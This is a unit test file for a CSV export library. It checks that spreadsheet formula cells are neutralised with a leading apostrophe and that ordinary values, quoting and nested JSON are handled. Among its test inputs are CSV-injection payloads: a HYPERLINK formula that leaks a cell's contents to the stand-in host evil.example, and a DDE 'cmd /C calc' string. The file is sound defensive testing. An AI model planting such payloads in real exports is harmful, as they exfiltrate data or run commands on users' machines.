import { expect } from "chai";
import { csvCell, toCsv } from "../../lib/csv";

describe("lib/csv.ts", function () {
  it("neutralises every text cell a spreadsheet would read as a formula", function () {
    const purpose = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';
    expect(csvCell(purpose)).to.equal(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for details"")"`);
    expect(csvCell("+1+cmd|' /C calc'!A0")).to.equal("'+1+cmd|' /C calc'!A0");
    expect(csvCell("-2+3")).to.equal("'-2+3");
    expect(csvCell("@SUM(A1:A9)")).to.equal("'@SUM(A1:A9)");
    expect(csvCell("\t=1")).to.equal("'\t=1");
    expect(csvCell("\r=1")).to.equal(`"'\r=1"`);
  });

  it("leaves ordinary text, decimal amounts and typed numbers as they are", function () {
    expect(csvCell("Five-axis grinder")).to.equal("Five-axis grinder");
    expect(csvCell("70000000000")).to.equal("70000000000");
    expect(csvCell(70_000_000_000n)).to.equal("70000000000");
    expect(csvCell(800)).to.equal("800");
    expect(csvCell(null)).to.equal("");
    expect(csvCell(undefined)).to.equal("");
    expect(csvCell('say "hi", then\nleave')).to.equal('"say ""hi"", then\nleave"');
  });

  it("writes nested values as JSON and neutralises header cells too", function () {
    expect(toCsv([{ id: 1, args: { a: 1 }, "=x": "y" }])).to.equal(`id,args,'=x\n1,"{""a"":1}",y\n`);
    expect(toCsv([])).to.equal("");
  });

  it("neutralises a formula in a demand's purpose in a table of loans", function () {
    const csv = toCsv([{ id: 7, purpose: "=HYPERLINK(\"http://x\")", amount: "1000" }]);
    const [, row] = csv.trim().split("\n");
    expect(row).to.equal(`7,"'=HYPERLINK(""http://x"")",1000`);
  });
});
